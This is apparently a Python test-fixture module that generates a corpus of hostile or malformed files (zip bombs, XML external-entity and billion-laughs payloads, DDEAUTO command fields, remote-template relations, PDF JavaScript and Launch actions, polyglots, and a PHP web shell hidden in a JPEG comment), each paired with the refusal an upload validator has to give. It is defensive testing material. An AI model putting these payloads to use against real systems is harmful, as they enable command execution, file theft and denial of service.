"""Files that must not be taken, each with the reason it is refused for."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Dictionary, Name

from duban.intake import Refusal
from tests.duban.intake import honest
from tests.duban.intake.honest import (
    S,
    blank_pdf,
    content_types,
    docx,
    docx_parts,
    pdf_bytes,
    photo,
    rels,
    sample,
    saved,
    scan,
    xlsx,
    xlsx_parts,
    zipped,
)

Make = Callable[[], bytes]
MB = 2**20
HTML = b"<html><script>alert(1)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\x00" + bytes(60) + b"PE\0\0" + bytes(400)
WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
TEMPLATE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"

CORPUS: dict[str, tuple[str, Refusal, Make]] = {}


def add(what: str, name: str, why: Refusal, make: Make) -> None:
    assert what not in CORPUS
    CORPUS[what] = (name, why, make)


def always(content: bytes) -> Make:
    return lambda: content


# Names and first bytes


def compound(stream: str) -> bytes:
    """The smallest OLE file that holds one stream."""
    free, end, fat = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    head = struct.pack(
        "<8s16s5H6x9L",
        *(bytes.fromhex("d0cf11e0a1b11ae1"), bytes(16), 62, 3, 0xFFFE, 9, 6),
        *(0, 1, 1, 0, 4096, end, 0, end, 0),
    )
    head += struct.pack("<109L", 0, *[free] * 108)
    table = struct.pack("<128L", fat, end, *[free] * 126)
    return head + table + _entry("Root Entry", 5, 1) + _entry(stream, 2, free) + bytes(256)


def _entry(name: str, kind: int, child: int) -> bytes:
    free = 0xFFFFFFFF
    text = name.encode("utf-16-le") + b"\0\0"
    return struct.pack(
        "<64sH2B3L16xL16xLQ", text, len(text), kind, 1, free, free, child, 0, 0xFFFFFFFE, 0
    )


OLD = compound("WordDocument")
LOCKED = compound("EncryptedPackage")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
for _given, _why, _content in (
    ("a.svg", Refusal.NOT_ASKED, SVG),
    ("a.html", Refusal.NOT_ASKED, HTML),
    ("a.txt", Refusal.NOT_ASKED, "你好".encode()),
    ("a.exe", Refusal.NOT_ASKED, EXE),
    ("a.zip", Refusal.NOT_ASKED, b"PK\x03\x04" + bytes(40)),
    ("a.rar", Refusal.NOT_ASKED, b"Rar!\x1a\x07\x00" + bytes(40)),
    ("a.gif", Refusal.NOT_ASKED, b"GIF89a" + bytes(40)),
    ("a.pdf.exe", Refusal.NOT_ASKED, EXE),
    ("pdf", Refusal.NOT_ASKED, b"%PDF-1.4\n%%EOF"),
    ("a.pdf ", Refusal.NOT_ASKED, b"%PDF-1.4\n%%EOF"),
    ("a.doc", Refusal.OLD_FORMAT, OLD),
    ("a.xls", Refusal.OLD_FORMAT, OLD),
    ("a.wps", Refusal.OLD_FORMAT, OLD),
    ("a.docm", Refusal.MACROS, b"PK\x03\x04" + bytes(40)),
    ("a.xlsm", Refusal.MACROS, b"PK\x03\x04" + bytes(40)),
):
    add(f"by its ending {_given!r}", _given, _why, always(_content))
for _kind in honest.KINDS:
    add(f"an empty {_kind}", f"a.{_kind}", Refusal.EMPTY, always(b""))
    add(f"a program named {_kind}", f"a.{_kind}", Refusal.WRONG_KIND, always(EXE))
    add(f"a page named {_kind}", f"a.{_kind}", Refusal.WRONG_KIND, always(HTML))
add("an SVG named png", "a.png", Refusal.WRONG_KIND, always(SVG))
add("a zip named docx", "a.docx", Refusal.WRONG_KIND, lambda: zipped({"a.txt": "a"}))
add("slides named docx", "a.docx", Refusal.WRONG_KIND, lambda: typed("docx", SLIDES))
add("a template named docx", "a.docx", Refusal.WRONG_KIND, lambda: typed("docx", TEMPLATE))
add("a docx named xlsx", "a.xlsx", Refusal.WRONG_KIND, docx)
add("an xlsx named docx", "a.docx", Refusal.WRONG_KIND, xlsx)
add("a docx named pdf", "a.pdf", Refusal.WRONG_KIND, docx)
add("a docx without its main part", "a.docx", Refusal.WRONG_KIND, lambda: without_main())
add("a .doc named docx", "a.docx", Refusal.OLD_FORMAT, always(OLD))
add("a .xls named xlsx", "a.xlsx", Refusal.OLD_FORMAT, always(OLD))
add("a locked docx", "a.docx", Refusal.ENCRYPTED, always(LOCKED))
add("a locked xlsx", "a.xlsx", Refusal.ENCRYPTED, always(LOCKED))
add("OLE's first bytes alone", "a.docx", Refusal.DAMAGED, always(OLD[:100]))
for _from, _to in (("JPEG", "png"), ("PNG", "jpg"), ("WEBP", "jpg"), ("PNG", "webp")):
    add(f"{_from} named {_to}", f"a.{_to}", Refusal.WRONG_KIND, lambda f=_from: sample(f))
for _from in ("TIFF", "BMP", "GIF"):
    add(f"{_from} named jpg", "a.jpg", Refusal.WRONG_KIND, lambda f=_from: sample(f))
add("a film named heic", "a.heic", Refusal.WRONG_KIND, always(b"\0\0\0\x18ftypmp42" + bytes(40)))
add("21 MB", "a.jpg", Refusal.TOO_BIG, lambda: b"\xff\xd8\xff" + bytes(21 * MB))


def typed(kind: str, content_type: str) -> bytes:
    parts = docx_parts() if kind == "docx" else xlsx_parts()
    main = "word/document.xml" if kind == "docx" else "xl/workbook.xml"
    return zipped({**parts, "[Content_Types].xml": content_types({main: content_type})})


def without_main() -> bytes:
    parts = docx_parts()
    del parts["word/document.xml"]
    return zipped(parts)


# Zip archives


def bomb(raw_mb: int, kind: str, name: str) -> bytes:
    """One entry of zeros: 400 MB from 393 KB."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(bytes(MB)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    packed = block * raw_mb + squeeze.flush()
    parts = docx_parts() if kind == "docx" else xlsx_parts()
    return with_raw(zipped(parts), name, packed, raw_mb * MB)


def with_raw(archive: bytes, name: str, packed: bytes, size: int) -> bytes:
    """Adds an entry whose packed bytes and size are given as they are."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(out, "w") as new:
        for entry in old.infolist():
            new.writestr(entry, old.read(entry))
        new.writestr(name, packed)
    data = bytearray(out.getvalue())
    for mark, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = data.rindex(mark)
        struct.pack_into("<H", data, start + at, 8)
        struct.pack_into("<L", data, start + at + 14, size)
    return bytes(data)


def slow_bomb() -> bytes:
    """Under a hundred times, but 220 MB."""
    squeeze, chance = zlib.compressobj(1, zlib.DEFLATED, -15), random.Random(1)
    count = 220 * MB // 81_200
    packed = b"".join(
        squeeze.compress(chance.randbytes(1200) + bytes(80_000)) for _ in range(count)
    )
    return with_raw(docx(), "word/media/a.dat", packed + squeeze.flush(), count * 81_200)


def overlapping() -> bytes:
    """Two directory entries for the same bytes."""
    data = bytearray(docx(extra={"word/a.xml": "<a/>" * 1, "word/b.xml": "<a/>"}))
    second = data.rindex(b"PK\x01\x02")
    first = data.rindex(b"PK\x01\x02", 0, second)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def changed(data: bytes, mark: bytes, at: int, form: str, value: int) -> bytes:
    """The last header of a kind with one number changed."""
    new = bytearray(data)
    struct.pack_into(form, new, new.rindex(mark) + at, value)
    return bytes(new)


def lying() -> bytes:
    """Says 5 bytes and holds 5 million."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = squeeze.compress(b"<!-- " + bytes(5_000_000)) + squeeze.flush()
    return with_raw(docx(), "word/media/a.dat", packed, 5)


def nested(depth: int) -> bytes:
    inner = bytes(30 * MB)
    for at in range(depth):
        inner = zipped({f"{at}.zip": inner})
    return docx(extra={"word/media/a.zip": inner})


def many(count: int) -> bytes:
    return docx(extra={f"word/media/{at}": b"" for at in range(count)})


def named(name: str) -> Make:
    return lambda: docx(extra={name: b"x"})


add("400 MB of zeros in an xlsx", "a.xlsx", Refusal.BOMB, lambda: bomb(400, "xlsx", "xl/a.dat"))
add("400 MB of zeros in a docx", "a.docx", Refusal.BOMB, lambda: bomb(400, "docx", "word/a.dat"))
add("220 MB, well packed", "a.docx", Refusal.BOMB, slow_bomb)
add("2,001 entries", "a.docx", Refusal.BOMB, lambda: many(2001))
add("5,000 entries", "a.docx", Refusal.BOMB, lambda: many(5_000))
add("entries that overlap", "a.docx", Refusal.BOMB, overlapping)
add("a size that lies", "a.docx", Refusal.BOMB, lying)
add("zip in zip in zip", "a.docx", Refusal.ACTIVE, lambda: nested(3))
add("a zip64 end", "a.docx", Refusal.BOMB, lambda: changed(docx(), b"PK\5\6", 10, "<H", 0xFFFF))
add("fewer entries promised", "a.docx", Refusal.DAMAGED, lambda: hidden_entry())
add(
    "an encrypted entry",
    "a.docx",
    Refusal.ENCRYPTED,
    lambda: changed(docx(), b"PK\1\2", 8, "<H", 1),
)
add("a strange method", "a.docx", Refusal.DAMAGED, lambda: zipped(docx_parts(), zipfile.ZIP_BZIP2))
add("a name that climbs", "a.docx", Refusal.DAMAGED, named("word/../../../etc/passwd"))
add("a name from the root", "a.docx", Refusal.DAMAGED, named("/etc/passwd"))
add("a name with a drive", "a.docx", Refusal.DAMAGED, named("C:\\a.xml"))
add("one name twice", "a.docx", Refusal.DAMAGED, named("word/DOCUMENT.xml"))
add("bytes before the zip", "a.docx", Refusal.WRONG_KIND, lambda: HTML + docx())
add("a zip before the zip", "a.docx", Refusal.POLYGLOT, lambda: zipped({"a": "b"}) + docx())
add("bytes after the zip", "a.docx", Refusal.DAMAGED, lambda: docx() + HTML)
add("a docx cut in two", "a.docx", Refusal.DAMAGED, lambda: docx()[:500])
add("two names for one entry", "a.docx", Refusal.DAMAGED, lambda: renamed_entry())
add("a wrong checksum", "a.docx", Refusal.DAMAGED, lambda: changed(docx(), b"PK\1\2", 16, "<L", 7))
add("a broken part", "a.docx", Refusal.DAMAGED, lambda: docx(extra={"word/a.xml": "<a><b></a>"}))


def hidden_entry() -> bytes:
    """The end speaks of one entry less than the directory has."""
    data = docx()
    count = struct.unpack_from("<H", data, data.rindex(b"PK\5\6") + 10)[0]
    return changed(data, b"PK\5\6", 10, "<H", count - 1)


def renamed_entry() -> bytes:
    """The header before the content gives another name than the directory."""
    return docx(extra={"word/a.xml": "<a/>"}).replace(b"word/a.xml", b"word/b.bat", 1)


# What a package asks to be run or fetched


def with_rel(kind: str, target: str, *, outside: bool = True) -> Make:
    given = rels((kind, target, outside))
    return lambda: docx(extra={"word/_rels/document.xml.rels": given})


def with_part(name: str, content: str | bytes, base: str = "docx") -> Make:
    return lambda: docx(extra={name: content}) if base == "docx" else xlsx(extra={name: content})


def field(*runs: str) -> Make:
    inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return lambda: docx(f"<w:p>{begin}{inside}</w:p>")


def formula(text: str) -> Make:
    return lambda: xlsx(cells=f"<row><c><f>{text}</f><v>0</v></c></row>")


add("a docm named docx", "a.docx", Refusal.MACROS, lambda: typed("docx", WORD_MACROS))
add("an xlsm named xlsx", "a.xlsx", Refusal.MACROS, lambda: typed("xlsx", SHEET_MACROS))
add("macros in a docx", "a.docx", Refusal.MACROS, with_part("word/vbaProject.bin", b"x"))
add("macros in an xlsx", "a.xlsx", Refusal.MACROS, with_part("xl/vbaProject.bin", b"x", "xlsx"))
add("macros, elsewhere", "a.docx", Refusal.MACROS, with_part("word/x/VBAPROJECT.BIN", b"x"))
add(
    "a sheet of macros", "a.xlsx", Refusal.MACROS, with_part("xl/macrosheets/s.xml", "<a/>", "xlsx")
)
add("macros by type only", "a.docx", Refusal.MACROS, with_rel("vbaProject", "a.dat", outside=False))
for _kind, _target in (
    ("attachedTemplate", "http://203.0.113.9/a.dotm"),
    ("attachedTemplate", "file:///\\\\203.0.113.9\\a.dotx"),
    ("image", "http://203.0.113.9/pixel.png"),
    ("oleObject", "http://203.0.113.9/a.html"),
    ("frame", "http://203.0.113.9/a.html"),
    ("hyperlink", "\\\\203.0.113.9\\share\\a"),
    ("hyperlink", "file://203.0.113.9/share/a"),
    ("hyperlink", "javascript:alert(1)"),
    ("hyperlink", "ms-msdt:/id"),
):
    _reason = Refusal.ACTIVE if _kind == "oleObject" else Refusal.EXTERNAL
    add(f"{_kind} at {_target[:18]}", "a.docx", _reason, with_rel(_kind, _target))
add(
    "another workbook",
    "a.xlsx",
    Refusal.EXTERNAL,
    with_part(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        rels(("externalLinkPath", "b.xlsx", True)),
        "xlsx",
    ),
)
add(
    "a data connection", "a.xlsx", Refusal.EXTERNAL, with_part("xl/connections.xml", "<a/>", "xlsx")
)
add("an object", "a.docx", Refusal.ACTIVE, with_part("word/embeddings/oleObject1.bin", OLD))
add("a program as object", "a.docx", Refusal.ACTIVE, with_part("word/embeddings/a.exe", EXE))
add("a program as picture", "a.docx", Refusal.ACTIVE, with_part("word/media/image1.png", EXE))
add("an object as picture", "a.docx", Refusal.ACTIVE, with_part("word/media/image1.png", OLD))
add("a page inside", "a.docx", Refusal.ACTIVE, with_part("word/afchunk.html", HTML))
add("ActiveX", "a.docx", Refusal.ACTIVE, with_part("word/activeX/activeX1.xml", "<a/>"))
add(
    "a locked workbook inside",
    "a.docx",
    Refusal.ACTIVE,
    with_part("word/embeddings/a.xlsx", LOCKED),
)
add("an OLE element", "a.docx", Refusal.ACTIVE, lambda: docx('<o:OLEObject xmlns:o="urn:o"/>'))
add(
    "macros in the chart's workbook",
    "a.docx",
    Refusal.MACROS,
    lambda: docx(extra={"word/embeddings/a.xlsx": xlsx(extra={"xl/vbaProject.bin": b"x"})}),
)
add(
    "a bomb in the chart's workbook",
    "a.docx",
    Refusal.BOMB,
    lambda: docx(extra={"word/embeddings/a.xlsx": bomb(300, "xlsx", "xl/a.dat")}),
)
add("DDEAUTO", "a.docx", Refusal.ACTIVE, field('DDEAUTO c:\\\\cmd.exe "/k calc"'))
add("DDEAUTO in pieces", "a.docx", Refusal.ACTIVE, field("DD", "EAU", "TO cmd"))
add(
    "DDE in a simple field",
    "a.docx",
    Refusal.ACTIVE,
    lambda: docx('<w:fldSimple w:instr="dde a"/>'),
)
add("DDE in a formula", "a.xlsx", Refusal.ACTIVE, formula("cmd|'/C calc'!A0"))
add("DDE in a body of another name", "a.docx", Refusal.ACTIVE, lambda: moved_body())
add("a web formula", "a.xlsx", Refusal.ACTIVE, formula('_xlfn.WEBSERVICE("http://203.0.113.9")'))
add("a DDE link", "a.xlsx", Refusal.ACTIVE, with_part("xl/x.xml", f"<a {S}><ddeLink/></a>", "xlsx"))


def moved_body() -> bytes:
    """The body lies where no word processor puts it, under an ending that is not XML's."""
    parts = docx_parts('<w:fldSimple w:instr="DDE a"/>')
    body = parts.pop("word/document.xml")
    types = content_types({"a/b.dat": honest.WORD_MAIN})
    return zipped({**parts, "[Content_Types].xml": types, "a/B.dat": body})


# Ten ways to make an XML parser read or grow

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
for _what, _xml in {
    "a file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "an address": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://203.0.113.9/">]><a>&x;</a>',
    "a public name": '<!DOCTYPE a [<!ENTITY x PUBLIC "a" "http://203.0.113.9/">]><a>&x;</a>',
    "a parameter": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://203.0.113.9/">%x;]><a/>',
    "an outer DTD": '<!DOCTYPE a SYSTEM "http://203.0.113.9/a.dtd"><a/>',
    "a public DTD": '<!DOCTYPE a PUBLIC "a" "http://203.0.113.9/a.dtd"><a/>',
    "a billion laughs": f'<!DOCTYPE a [<!ENTITY l0 "ha">{_LAUGHS}]><a>&l9;</a>',
    "quadratic growth": f'<!DOCTYPE a [<!ENTITY x "{"A" * 9999}">]><a>{"&x;" * 9999}</a>',
    "an attribute": '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>',
    "a bare doctype": "<!DOCTYPE a><a/>",
}.items():
    for _part in ("word/document.xml", "[Content_Types].xml", "docProps/custom.xml"):
        add(f"{_what} in {_part}", "a.docx", Refusal.BOMB, with_part(_part, _xml))
add(
    "laughs in UTF-16",
    "a.docx",
    Refusal.BOMB,
    with_part(
        "word/a.xml",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY l0 "ha">]><a/>'.encode(
            "utf-16"
        ),
    ),
)
add(
    "a file, through a .rels",
    "a.docx",
    Refusal.BOMB,
    with_part(
        "word/_rels/document.xml.rels", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'
    ),
)


# PDFs


def pdf_with(change: Callable[[pikepdf.Pdf], Any], **options: Any) -> Make:
    def make() -> bytes:
        pdf = blank_pdf()
        change(pdf)
        return pdf_bytes(pdf, **options)

    return make


def action(kind: str, **more: Any) -> Make:
    act = Dictionary(S=Name(f"/{kind}"), **more)
    return pdf_with(lambda pdf: pdf.Root.__setitem__("/OpenAction", pdf.make_indirect(act)))


def annotated(subtype: str, **more: Any) -> Make:
    note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, 9, 9], **more)
    return pdf_with(lambda pdf: pdf.pages[0].__setitem__("/Annots", pikepdf.Array([note])))


def attach(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.exe"] = EXE


def buried(pdf: pikepdf.Pdf) -> None:
    """Deep in direct objects, themselves packed in a stream of objects."""
    one: Any = Dictionary(S=Name.JavaScript, JS=b"app.alert(1)")
    for _ in range(20):
        one = Dictionary(A=[one])
    pdf.Root.Deep = pdf.make_indirect(one)


def unpacks(pdf: pikepdf.Pdf) -> None:
    squeeze = zlib.compressobj(9)
    head, block = squeeze.compress(b"") + squeeze.flush(zlib.Z_FULL_FLUSH), b"0 0 m " * 200_000
    packed = head + (squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)) * 260
    stream = pdf.make_stream(b"")
    stream.write(packed, filter=Name.FlateDecode)
    pdf.pages[0].Contents = stream


def twice(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"")
    stream.write(
        zlib.compress(zlib.compress(bytes(10 * MB))),
        filter=pikepdf.Array([Name.FlateDecode, Name.FlateDecode]),
    )
    pdf.pages[0].Contents = stream


def huge(pdf: pikepdf.Pdf) -> None:
    picture = pdf.make_stream(b"x", Type=Name.XObject, Subtype=Name.Image, Width=65_000)
    picture.stream_dict.Height = 65_000
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(a=picture))


def elsewhere(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = pdf.make_stream(b"", F=b"\\\\203.0.113.9\\a")


PLAIN = pdf_bytes(blank_pdf())
LOCK = pikepdf.Encryption(owner="o", user="u")
LOCK_CHANGES = pikepdf.Encryption(owner="o", user="")
add("an open action in JavaScript", "a.pdf", Refusal.ACTIVE, action("JavaScript", JS=b"a"))
add(
    "JavaScript in a stream object",
    "a.pdf",
    Refusal.ACTIVE,
    pdf_with(buried, object_stream_mode=pikepdf.ObjectStreamMode.generate),
)
add("JavaScript that nothing points to", "a.pdf", Refusal.ACTIVE, lambda: orphan(b"/JS (a)"))
add("JavaScript, spelt otherwise", "a.pdf", Refusal.ACTIVE, lambda: orphan(b"/J#53 (a)"))
add(
    "a named script",
    "a.pdf",
    Refusal.ACTIVE,
    pdf_with(
        lambda pdf: pdf.Root.__setitem__("/Names", Dictionary(JavaScript=Dictionary(Names=[])))
    ),
)
for _kind in ("Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition"):
    add(f"the action {_kind}", "a.pdf", Refusal.ACTIVE, action(_kind, F=b"cmd.exe"))
for _kind in ("RichMedia", "FileAttachment", "Movie", "Screen", "3D"):
    add(f"the annotation {_kind}", "a.pdf", Refusal.ACTIVE, annotated(_kind))
add(
    "a script when a note is shown",
    "a.pdf",
    Refusal.ACTIVE,
    annotated("Link", AA=Dictionary(PV=Dictionary(S=Name.JavaScript, JS=b"a"))),
)
add("a file in a PDF", "a.pdf", Refusal.ACTIVE, pdf_with(attach))
add(
    "an XFA form",
    "a.pdf",
    Refusal.ACTIVE,
    pdf_with(
        lambda pdf: pdf.Root.__setitem__("/AcroForm", Dictionary(XFA=pdf.make_stream(b"<a/>")))
    ),
)
add(
    "a portfolio",
    "a.pdf",
    Refusal.ACTIVE,
    pdf_with(lambda pdf: pdf.Root.__setitem__("/Collection", Dictionary())),
)
add("a stream elsewhere", "a.pdf", Refusal.EXTERNAL, pdf_with(elsewhere))
add("a PDF with a password", "a.pdf", Refusal.ENCRYPTED, pdf_with(lambda _: None, encryption=LOCK))
add(
    "a PDF locked for changes",
    "a.pdf",
    Refusal.ENCRYPTED,
    pdf_with(lambda _: None, encryption=LOCK_CHANGES),
)
add("a page before the PDF", "a.pdf", Refusal.WRONG_KIND, lambda: HTML + PLAIN)
add("a page named PDF", "a.pdf", Refusal.DAMAGED, lambda: b"%PDF-1.7\n" + HTML)
add(
    "a page in a PDF's comment",
    "a.pdf",
    Refusal.POLYGLOT,
    lambda: PLAIN.replace(b"%PDF-1.", b"%PDF-1.7 " + HTML + b"\n%", 1),
)
add("a page after the PDF", "a.pdf", Refusal.POLYGLOT, lambda: PLAIN + HTML)
add("a page before the PDF's end", "a.pdf", Refusal.POLYGLOT, lambda: PLAIN + HTML + b"\n%%EOF\n")
add("a zip after the PDF", "a.pdf", Refusal.POLYGLOT, lambda: PLAIN + docx())
add("a zip before the PDF's end", "a.pdf", Refusal.POLYGLOT, lambda: PLAIN + zip_with_end())
add("half a PDF", "a.pdf", Refusal.DAMAGED, lambda: PLAIN[: len(PLAIN) // 2])
add("no PDF but the mark", "a.pdf", Refusal.DAMAGED, always(b"%PDF-1.7\n%%EOF\n"))
add("501 pages", "a.pdf", Refusal.TOO_MANY_PAGES, lambda: pdf_bytes(blank_pdf(501)))
add("a stream of 300 MB", "a.pdf", Refusal.BOMB, pdf_with(unpacks))
add(
    "a stream packed twice",
    "a.pdf",
    Refusal.BOMB,
    pdf_with(
        twice,
        compress_streams=False,
        stream_decode_level=pikepdf.StreamDecodeLevel.none,
    ),
)
add("a picture of 65,000 by 65,000 in a PDF", "a.pdf", Refusal.TOO_MANY_PIXELS, pdf_with(huge))
add("brackets without end", "a.pdf", Refusal.DAMAGED, lambda: orphan(b"/A " + b"[" * 200_000))


def orphan(inside: bytes) -> bytes:
    """A PDF by hand, so that no library tidies it."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
        b"<<" + inside + b">>",
    )
    data, places = b"%PDF-1.7\n", list[int]()
    for number, each in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj" % number + each + b"endobj\n"
    index = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 5\n0000000000 65535 f \n"
    tail = b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(data)
    return data + head + index + tail


def zip_with_end() -> bytes:
    """An archive whose comment ends as a PDF does."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.html", HTML)
        archive.comment = b"\n%%EOF\n"
    return out.getvalue()


# Pictures


def header_only(width: int, height: int) -> bytes:
    """A PNG that promises more than it has."""
    head = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(content))
        + mark
        + content
        + struct.pack(">L", zlib.crc32(mark + content))
        for mark, content in (
            (b"IHDR", head),
            (b"IDAT", zlib.compress(bytes(1000))),
            (b"IEND", b""),
        )
    )


def wide_heic() -> bytes:
    """The size in the header raised to 60,000 by 60,000."""
    data = sample("HEIF")
    real = struct.pack(">2L", 800, 600)
    assert real in data
    return data.replace(real, struct.pack(">2L", 60_000, 60_000))


def wide_jpeg() -> bytes:
    return sample("JPEG").replace(struct.pack(">2H", 600, 800), b"\xff\xff\xff\xff", 1)


JPEG = sample("JPEG")
PNG = saved(scan(), "PNG")
add("65,000 by 65,000", "a.png", Refusal.TOO_MANY_PIXELS, lambda: header_only(65_000, 65_000))
add("40 million and a bit", "a.png", Refusal.TOO_MANY_PIXELS, lambda: header_only(8_001, 5_000))
add("one line of 41 million", "a.png", Refusal.TOO_MANY_PIXELS, lambda: header_only(41_000_000, 1))
add("a JPEG of 65,535 by 65,535", "a.jpg", Refusal.TOO_MANY_PIXELS, wide_jpeg)
add("a HEIC of 60,000 by 60,000", "a.heic", Refusal.TOO_MANY_PIXELS, wide_heic)
add("half a JPEG", "a.jpg", Refusal.DAMAGED, lambda: JPEG[: len(JPEG) // 2])
add("half a PNG", "a.png", Refusal.DAMAGED, lambda: PNG[: len(PNG) // 2])
add("half a WEBP", "a.webp", Refusal.DAMAGED, lambda: sample("WEBP")[:3000])
add("half a HEIC", "a.heic", Refusal.DAMAGED, lambda: sample("HEIF")[:3000])
add("a JPEG of three bytes", "a.jpg", Refusal.DAMAGED, always(b"\xff\xd8\xff"))
add("a promise of a PNG", "a.png", Refusal.DAMAGED, lambda: header_only(600, 800))
add("a GIF that is a page", "a.jpg", Refusal.WRONG_KIND, always(b"GIF89a/*" + HTML))
add(
    "a JPEG that is a program for a server",
    "a.jpg",
    Refusal.POLYGLOT,
    lambda: saved(photo(), "JPEG", comment=PHP),
)
add("a page behind a JPEG", "a.jpg", Refusal.POLYGLOT, lambda: JPEG + HTML)
add("a zip behind a PNG", "a.png", Refusal.POLYGLOT, lambda: PNG + docx())
add("a zip behind a JPEG", "a.jpg", Refusal.POLYGLOT, lambda: JPEG + zipped({"a": "b"}))
add("a PDF behind a JPEG", "a.jpg", Refusal.POLYGLOT, lambda: JPEG + PLAIN)
add("a page behind a WEBP", "a.webp", Refusal.POLYGLOT, lambda: sample("WEBP") + HTML)


BOMBS = [what for what, (_, why, _make) in CORPUS.items() if why is Refusal.BOMB]
